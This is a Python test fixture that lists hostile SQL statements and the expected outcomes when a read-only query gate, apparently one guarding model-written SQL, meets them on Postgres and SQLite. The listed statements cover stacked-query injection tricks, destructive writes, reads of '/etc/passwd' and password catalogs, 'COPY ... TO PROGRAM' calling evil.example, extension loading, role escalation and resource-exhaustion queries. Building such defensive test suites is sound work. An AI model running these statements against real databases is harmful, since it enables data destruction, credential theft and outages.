"""Statements that a model must not get through, and what is to become of each.

`gate`: "refused", or "passes" for what only reads and merely takes too much. `alone`: what the database's own
settings do where the gate is switched off: a kind of fault, or "runs" with what it comes to in `remark`.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Literal


@dataclass(frozen=True)
class Hostile:
    """`alone`: kinds of faults, any of which will do, or ("runs",)."""

    what: str
    sql: str
    alone: tuple[str, ...]
    gate: Literal["refused", "passes"] = "refused"
    remark: str = ""


_DELETE = "WITH gone AS (DELETE FROM public.customer RETURNING *) SELECT * FROM gone"
_CROSS = (
    "SELECT count(*) FROM generate_series(1, 30000) a, generate_series(1, 30000) b, generate_series(1, 30) c"
)
_ENDLESS = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT count(*) FROM n"
_DOUBLING = (
    "WITH RECURSIVE n(i, t) AS (SELECT 1, 'xxxxxxxxxxxxxxxx' UNION ALL"
    " SELECT i + 1, t || t FROM n WHERE i < 18) SELECT t FROM n"
)
_R, _P, _D = ("refused",), ("parse",), ("database",)
_ANY = ("refused", "parse", "database", "unknown_name")
_GATE = ("runs",)

POSTGRES = [
    # Several statements, and ways of hiding one
    Hostile("stacked", "SELECT 1; DROP TABLE public.customer", _P),
    Hostile("stacked, empty first", "; DELETE FROM public.customer", _ANY),
    Hostile("stacked without a space", "SELECT 1;DELETE FROM public.customer;--", _P),
    Hostile("stacked after a comment", "SELECT 1 /* ; */ ; TRUNCATE public.customer", _P),
    Hostile("hidden by nested comments", "SELECT 1 /* /* */ ; */; DROP TABLE public.customer --", _P),
    Hostile("hidden by a line comment", "SELECT 1 --\n; UPDATE public.customer SET name = 'x'", _P),
    Hostile("hidden in dollar quotes", "SELECT $a$ $b$ $a$; DELETE FROM public.customer; SELECT $c$ $c$", _P),
    Hostile(
        "hidden by an escaped quote", r"SELECT E'\'; DELETE FROM public.customer; --'", _GATE, remark="a text"
    ),
    Hostile("hidden by a backslash", r"SELECT '\'; DELETE FROM public.customer; --'", _P),
    Hostile("end of transaction first", "COMMIT; DELETE FROM public.customer", _P),
    Hostile("end of transaction alone", "ROLLBACK", _ANY),
    Hostile("out of the brackets", "SELECT 1) AS answer; DROP TABLE public.customer; --", _P),
    Hostile("null character", "SELECT 1\0; DROP TABLE public.customer", _ANY),
    Hostile("nothing but a comment", "-- DROP TABLE public.customer", _ANY),
    # Writing
    Hostile("INSERT", "INSERT INTO public.customer (name) VALUES ('x')", _ANY),
    Hostile("UPDATE", "UPDATE public.customer SET name = 'x'", _ANY),
    Hostile("DELETE", "DELETE FROM public.customer", _ANY),
    Hostile(
        "MERGE", "MERGE INTO public.customer c USING public.orders o ON true WHEN MATCHED THEN DELETE", _ANY
    ),
    Hostile("TRUNCATE", "TRUNCATE public.customer CASCADE", _ANY),
    Hostile("DROP", "DROP TABLE public.customer CASCADE", _ANY),
    Hostile("ALTER", "ALTER TABLE public.customer ADD COLUMN x int", _ANY),
    Hostile("CREATE TABLE AS", "CREATE TABLE stolen AS SELECT * FROM public.customer", _ANY),
    Hostile("CREATE TEMP TABLE", "CREATE TEMP TABLE t AS SELECT 1", _ANY),
    Hostile("CREATE FUNCTION", "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", _ANY),
    Hostile("CREATE EXTENSION", "CREATE EXTENSION file_fdw", _ANY),
    Hostile("SELECT INTO", "SELECT * INTO stolen FROM public.customer", _ANY),
    Hostile("WITH and DELETE", _DELETE, _ANY),
    Hostile(
        "WITH and INSERT",
        "WITH a AS (INSERT INTO public.customer (name) VALUES ('x') RETURNING 1) SELECT 1",
        _ANY,
    ),
    Hostile("WITH and UPDATE, nested", f"SELECT * FROM ({_DELETE}) AS q", _ANY),
    Hostile("WITH before DELETE", "WITH a AS (SELECT 1) DELETE FROM public.customer", _ANY),
    Hostile("EXPLAIN ANALYZE DELETE", "EXPLAIN ANALYZE DELETE FROM public.customer", _ANY),
    Hostile("GRANT", "GRANT ALL ON public.customer TO PUBLIC", _ANY),
    Hostile("COMMENT", "COMMENT ON TABLE public.customer IS 'x'", _ANY),
    Hostile("REFRESH", "REFRESH MATERIALIZED VIEW public.totals", _ANY),
    Hostile("nextval", "SELECT nextval('public.customer_id_seq')", _R),
    Hostile("setval", "SELECT setval('public.customer_id_seq', 1)", _ANY),
    Hostile(
        "nextval in WHERE", "SELECT * FROM public.customer WHERE id < nextval('public.customer_id_seq')", _R
    ),
    Hostile("function that writes", "SELECT public.wipe()", _R),
    Hostile("function that writes, by name alone", "SELECT wipe()", ("unknown_name",)),
    Hostile("function as a column", "SELECT c.wiped FROM public.customer AS c", ("unknown_name",)),
    Hostile("operator that writes", "SELECT 1 OPERATOR(public.###) 2", _R),
    Hostile("cast that writes", "SELECT CAST('x' AS public.odd)", ("refused", "database", "unknown_name")),
    Hostile(
        "function as a column of a call",
        "SELECT g.pg_sleep, 1 AS pg_sleep FROM generate_series(60, 61) AS g",
        ("time",),
    ),
    Hostile(
        "function as a column of a call, LATERAL",
        "SELECT g.current_setting, 1 AS current_setting FROM LATERAL unnest(ARRAY['port']) AS g",
        _GATE,
        remark="every role may read the settings",
    ),
    Hostile(
        "function as a column of a call, another of its name",
        "SELECT g.current_setting, h.current_setting"
        " FROM unnest(ARRAY['port']) AS g, unnest(ARRAY[1]) AS h(current_setting)",
        _GATE,
        remark="likewise",
    ),
    Hostile(
        "lock as a column of a call",
        "SELECT g.pg_advisory_lock, 1 AS pg_advisory_lock FROM generate_series(3, 4) AS g",
        _GATE,
        remark="released when the session is reset",
    ),
    Hostile(
        "statistics by a whole row",
        "SELECT c.pg_restore_relation_stats, 1 AS pg_restore_relation_stats FROM public.customer AS c",
        _ANY,
    ),
    # Rows and tables locked
    Hostile("FOR UPDATE", "SELECT * FROM public.customer FOR UPDATE", _R),
    Hostile("FOR SHARE in a subquery", "SELECT * FROM (SELECT * FROM public.customer FOR SHARE) AS q", _R),
    Hostile("LOCK TABLE", "LOCK TABLE public.customer IN ACCESS EXCLUSIVE MODE", _ANY),
    Hostile(
        "advisory lock", "SELECT pg_advisory_lock(42)", _GATE, remark="released when the session is reset"
    ),
    Hostile(
        "advisory lock, try", "SELECT pg_try_advisory_lock(1) FROM public.customer", _GATE, remark="likewise"
    ),
    # Files and programs
    Hostile("COPY to a file", "COPY public.customer TO '/tmp/stolen'", _ANY),
    Hostile("COPY to a program", "COPY public.customer TO PROGRAM 'curl evil.example'", _ANY),
    Hostile("COPY from a program", "COPY public.customer FROM PROGRAM 'id'", _ANY),
    Hostile("COPY to the client", "COPY (SELECT * FROM public.customer) TO STDOUT", _ANY),
    Hostile("pg_read_file", "SELECT pg_read_file('/etc/passwd')", _R),
    Hostile("pg_read_file, qualified", "SELECT pg_catalog.pg_read_file('postgresql.conf')", _R),
    Hostile("pg_read_file, quoted", "SELECT \"pg_read_file\"('/etc/passwd')", _R),
    Hostile("pg_read_file, in capitals", "SELECT PG_READ_FILE ( '/etc/passwd' )", _R),
    Hostile("pg_read_file, escaped", "SELECT U&\"pg_re\\0061d_file\"('/etc/passwd')", _R),
    Hostile("pg_read_file in FROM", "SELECT * FROM pg_read_file('/etc/passwd') AS f", _R),
    Hostile("pg_read_binary_file", "SELECT pg_read_binary_file('/etc/passwd')", _R),
    Hostile("pg_ls_dir", "SELECT pg_ls_dir('/')", _R),
    Hostile("pg_stat_file", "SELECT pg_stat_file('postgresql.conf')", _R),
    Hostile("lo_import", "SELECT lo_import('/etc/passwd')", _ANY),
    Hostile("lo_export", "SELECT lo_export(1, '/tmp/x')", _ANY),
    Hostile("lo_from_bytea", "SELECT lo_from_bytea(0, 'x')", _ANY),
    Hostile("lo_create", "SELECT lo_create(0)", _ANY),
    # Other servers, other sessions, other roles
    Hostile("dblink", "SELECT * FROM public.dblink('dbname=postgres', 'SELECT 1') AS t(a int)", _ANY),
    Hostile(
        "dblink_exec", "SELECT public.dblink_exec('dbname=postgres', 'DROP TABLE public.customer')", _ANY
    ),
    Hostile("dblink_connect", "SELECT public.dblink_connect('host=127.0.0.1 user=owner')", _ANY),
    Hostile(
        "pg_terminate_backend",
        "SELECT pg_terminate_backend(1)",
        _GATE,
        remark="of the role's own sessions only",
    ),
    Hostile(
        "pg_terminate_backend, all", "SELECT pg_terminate_backend(pid) FROM pg_stat_activity", ("lost", *_ANY)
    ),
    Hostile(
        "pg_cancel_backend", "SELECT pg_cancel_backend(1)", _GATE, remark="of the role's own sessions only"
    ),
    Hostile("pg_reload_conf", "SELECT pg_reload_conf()", _R),
    Hostile("pg_switch_wal", "SELECT pg_switch_wal()", _R),
    Hostile("pg_promote", "SELECT pg_promote()", _R),
    Hostile("pg_stat_reset", "SELECT pg_stat_reset()", _R),
    Hostile("pg_create_logical_slot", "SELECT pg_create_logical_replication_slot('s', 'pgoutput')", _ANY),
    Hostile("SET ROLE", "SET ROLE owner", _ANY),
    Hostile("SET SESSION AUTHORIZATION", "SET SESSION AUTHORIZATION owner", _ANY),
    Hostile("RESET ALL", "RESET ALL", _ANY),
    Hostile("SET timeout", "SET statement_timeout = 0", _ANY),
    Hostile("SET read write", "SET TRANSACTION READ WRITE", _ANY),
    Hostile("set_config, read write", "SELECT set_config('transaction_read_only', 'off', false)", _ANY),
    Hostile(
        "set_config, timeout",
        "SELECT set_config('statement_timeout', '0', false)",
        _GATE,
        remark="rolled back",
    ),
    Hostile("set_config, role", "SELECT set_config('role', 'owner', false)", _R),
    Hostile(
        "set_config, search path",
        "SELECT set_config('search_path', 'public', false)",
        _GATE,
        remark="rolled back",
    ),
    Hostile("passwords", "SELECT rolname, rolpassword FROM pg_catalog.pg_authid", _R),
    Hostile(
        "passwords by a WITH of that name",
        "WITH pg_authid AS (SELECT * FROM pg_authid) SELECT * FROM pg_authid",
        _R,
    ),
    Hostile("passwords, pg_shadow", "SELECT * FROM pg_shadow", _R),
    Hostile(
        "statements of others",
        "SELECT query FROM pg_stat_activity",
        _GATE,
        remark="those of its own role only",
    ),
    Hostile("catalog", "SELECT prosrc FROM pg_proc", _GATE, remark="every role may read the catalog"),
    Hostile("information_schema", "SELECT * FROM information_schema.tables", _GATE, remark="likewise"),
    Hostile("catalog by a cast", "SELECT 'pg_authid'::regclass::oid", _GATE, remark="likewise"),
    Hostile("settings", "SELECT current_setting('port')", _GATE, remark="likewise"),
    Hostile("server", "SELECT version(), inet_server_addr()", _GATE, remark="likewise"),
    Hostile("who is asked as", "SELECT current_user, session_user", _GATE, remark="likewise"),
    Hostile("table without a GRANT", "SELECT * FROM secret.salary", _R),
    # Text that is run as SQL
    Hostile("DO", "DO $$ BEGIN DELETE FROM public.customer; END $$", _ANY),
    Hostile("CALL", "CALL public.wipe_all()", _ANY),
    Hostile("PREPARE", "PREPARE p AS DELETE FROM public.customer", _ANY),
    Hostile("EXECUTE", "EXECUTE p", _ANY),
    Hostile("query_to_xml", "SELECT query_to_xml('DELETE FROM public.customer', true, true, '')", _ANY),
    Hostile(
        "query_to_xml, reading",
        "SELECT query_to_xml('SELECT 1', true, true, '')",
        ("runs", "database"),
        remark="read-only all the same",
    ),
    Hostile("table_to_xml", "SELECT table_to_xml('secret.salary', true, true, '')", _R),
    Hostile(
        "database_to_xml",
        "SELECT length(database_to_xml(true, true, '')::text)",
        ("runs", *_ANY),
        remark="what it may read",
    ),
    Hostile("ts_stat", "SELECT * FROM ts_stat('SELECT nextval(''public.customer_id_seq'')')", _ANY),
    Hostile("cursor_to_xml", "SELECT cursor_to_xml('ragctl_answer', 1, true, true, '')", _ANY),
    # Messages and waiting
    Hostile("LISTEN", "LISTEN channel", _ANY),
    Hostile("NOTIFY", "NOTIFY channel, 'x'", _ANY),
    Hostile(
        "pg_notify",
        "SELECT pg_notify('channel', 'x')",
        _GATE,
        remark="sent at commit, which there is none of",
    ),
    Hostile("VACUUM", "VACUUM FULL public.customer", _ANY),
    Hostile("ANALYZE", "ANALYZE public.customer", _ANY),
    Hostile("CHECKPOINT", "CHECKPOINT", _ANY),
    Hostile("DISCARD", "DISCARD ALL", _ANY),
    Hostile("pg_sleep", "SELECT pg_sleep(60)", ("time", "database")),
    Hostile("pg_sleep in FROM", "SELECT count(*) FROM pg_catalog.pg_sleep(60)", ("time",)),
    Hostile("pg_sleep, many", "SELECT count(pg_sleep(0.1)) FROM generate_series(1, 1000)", ("time",)),
    # Too much of what is allowed
    Hostile("cross join", _CROSS, ("cost", "time"), "passes"),
    Hostile(
        "generate_series", "SELECT generate_series(1, 100000000000)", ("cost", "runs"), "passes", "cut off"
    ),
    Hostile(
        "generate_series, sorted",
        "SELECT g FROM generate_series(1, 9000000000) g ORDER BY -g",
        ("cost",),
        "passes",
    ),
    Hostile(
        "generate_series of a column",
        "SELECT count(*) FROM public.customer c, generate_series(1, c.id * 100000000) g",
        ("time", "size", "database"),
        "passes",
    ),
    Hostile("recursion without end", _ENDLESS, ("time", "database"), "passes"),
    Hostile("text that doubles", _DOUBLING, ("size",), "passes"),
    Hostile(
        "a regular expression",
        "SELECT count(*) FROM public.customer c, generate_series(1, 900000) g"
        " WHERE c.name || g ~ '^(([a-z ])+.)+[A-Z]([a-z])+$'",
        ("time", "cost"),
        "passes",
    ),
    Hostile(
        "rows that are too many bytes",
        "SELECT string_agg(c.name, ',') OVER () FROM public.customer c, generate_series(1, 3000) g",
        ("size", "time"),
        "passes",
    ),
    Hostile("repeat", "SELECT repeat('x', 100000000)", ("size", "time")),
    Hostile("lpad", "SELECT lpad('x', 100000000)", ("size", "time")),
    Hostile("factorial", "SELECT factorial(100000)", ("time", "database", "size"), "passes"),
    Hostile(
        "power", "SELECT 9.0 ^ 100000.5", ("time", "size", "runs", "database"), "passes", "a long number"
    ),
    Hostile(
        "nested brackets", "SELECT " + "(" * 5000 + "1" + ")" * 5000, ("size", "database", "runs", "parse")
    ),
    Hostile("a parameter", "SELECT * FROM public.customer WHERE id = $1", _ANY),
]

_LITE_ENDLESS = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT count(*) FROM n"
_LITE_ROWS = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT i FROM n"
_LITE_SORT = (
    "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n LIMIT 100000000)"
    " SELECT i FROM n ORDER BY -i"
)
_LITE_LONG = (
    "WITH RECURSIVE n(i, t) AS (SELECT 1, 'xxxxxxxxxxxxxxxx' UNION ALL"
    " SELECT i + 1, t || t FROM n WHERE i < 40) SELECT max(length(t)) FROM n"
)
_NESTED = "'aaaaaaaaaaaaaaaa'"
for _ in range(9):
    _NESTED = f"replace({_NESTED}, 'a', 'aaaaaaaaaaaaaaaa')"

SQLITE = [
    Hostile("stacked", "SELECT 1; DROP TABLE customer", _R),
    Hostile("stacked after a comment", "SELECT 1 -- ;\n; DELETE FROM customer", _R),
    Hostile("null character", "SELECT 1\0; DROP TABLE customer", _ANY),
    Hostile("INSERT", "INSERT INTO customer (name) VALUES ('x')", _R),
    Hostile("INSERT ... RETURNING", "INSERT INTO customer (name) VALUES ('x') RETURNING id", _R),
    Hostile("REPLACE", "REPLACE INTO customer (id, name) VALUES (1, 'x')", _R),
    Hostile("UPDATE", "UPDATE customer SET name = 'x'", _R),
    Hostile("DELETE", "DELETE FROM customer", _R),
    Hostile("WITH before DELETE", "WITH a AS (SELECT 1) DELETE FROM customer", _R),
    Hostile("DROP", "DROP TABLE customer", _R),
    Hostile("ALTER", "ALTER TABLE customer RENAME TO x", _R),
    Hostile("CREATE", "CREATE TABLE x (a)", _R),
    Hostile("CREATE TEMP TABLE", "CREATE TEMP TABLE x AS SELECT * FROM customer", _R),
    Hostile("CREATE TRIGGER", "CREATE TRIGGER t AFTER INSERT ON customer BEGIN DELETE FROM orders; END", _R),
    Hostile("CREATE VIRTUAL TABLE", "CREATE VIRTUAL TABLE v USING fts5(a)", _R),
    Hostile("ATTACH a file", "ATTACH 'stolen.db' AS other", _R),
    Hostile("ATTACH by a URI", "ATTACH 'file:stolen.db?mode=rwc' AS other", _R),
    Hostile("ATTACH in memory", "ATTACH ':memory:' AS other", _R),
    Hostile("DETACH", "DETACH main", _R),
    Hostile("VACUUM INTO", "VACUUM INTO 'stolen.db'", _R),
    Hostile("VACUUM", "VACUUM", _R),
    Hostile("REINDEX", "REINDEX", _R),
    Hostile("ANALYZE", "ANALYZE", _R),
    Hostile("BEGIN", "BEGIN IMMEDIATE", _R),
    Hostile("SAVEPOINT", "SAVEPOINT s", _R),
    Hostile("PRAGMA user_version", "PRAGMA user_version = 7", _R),
    Hostile("PRAGMA writable_schema", "PRAGMA writable_schema = ON", _R),
    Hostile("PRAGMA query_only off", "PRAGMA query_only = OFF", _R),
    Hostile("PRAGMA journal_mode", "PRAGMA journal_mode = WAL", _R),
    Hostile("PRAGMA database_list", "PRAGMA database_list", _R),
    Hostile("pragma as a table", "SELECT * FROM pragma_database_list", _R),
    Hostile("pragma as a function", "SELECT * FROM pragma_table_info('customer')", _R),
    Hostile("load_extension", "SELECT load_extension('/tmp/evil.so')", _R),
    Hostile("readfile", "SELECT readfile('/etc/passwd')", ("unknown_name", "refused")),
    Hostile("writefile", "SELECT writefile('/tmp/x', 'x')", ("unknown_name", "refused")),
    Hostile("edit", "SELECT edit('x', 'vi')", ("unknown_name", "refused")),
    Hostile("fts3_tokenizer", "SELECT fts3_tokenizer('simple')", _ANY),
    Hostile("sqlite_master", "SELECT sql FROM sqlite_master", _R),
    Hostile("sqlite_schema, quoted", 'SELECT sql FROM "sqlite_schema"', _R),
    Hostile("dbstat", "SELECT * FROM dbstat", _ANY),
    Hostile("excluded table", "SELECT * FROM salary", _R),
    Hostile(
        "excluded table by a WITH of that name",
        "WITH salary AS (SELECT * FROM main.salary) SELECT * FROM salary",
        _R,
    ),
    Hostile("version", "SELECT sqlite_version(), sqlite_source_id()", _R),
    Hostile("changes", "SELECT last_insert_rowid()", _R),
    Hostile("randomblob", "SELECT hex(randomblob(1000000000))", _R),
    Hostile("zeroblob", "SELECT length(zeroblob(1000000000))", _R),
    Hostile("printf", "SELECT printf('%.*c', 1000000000, 'x')", ("size", "runs"), "passes", "NULL"),
    Hostile("replace in replace", f"SELECT length({_NESTED})", ("size",), "passes"),
    Hostile("hex of hex", "SELECT " + "hex(" * 20 + "'x'" + ")" * 20, ("size",), "passes"),
    Hostile("recursion without end", _LITE_ENDLESS, ("time",), "passes"),
    Hostile("rows without end", _LITE_ROWS, ("runs",), "passes", "cut off"),
    Hostile("sort without end", _LITE_SORT, ("time", "size"), "passes"),
    Hostile("text that doubles", _LITE_LONG, ("size",), "passes"),
    Hostile(
        "cross join",
        "SELECT count(*) FROM orders a, orders b, orders c, orders d, orders e",
        ("time",),
        "passes",
    ),
    Hostile(
        "LIKE of many wildcards",
        f"SELECT '{'a' * 5000}' LIKE '{'%a' * 40}b'",
        ("time", "runs"),
        "passes",
        "in no time",
    ),
    Hostile("a parameter", "SELECT * FROM customer WHERE id = ?", _ANY),
    Hostile("deep nesting", "SELECT " + "(" * 3000 + "1" + ")" * 3000, ("database", "parse")),
]
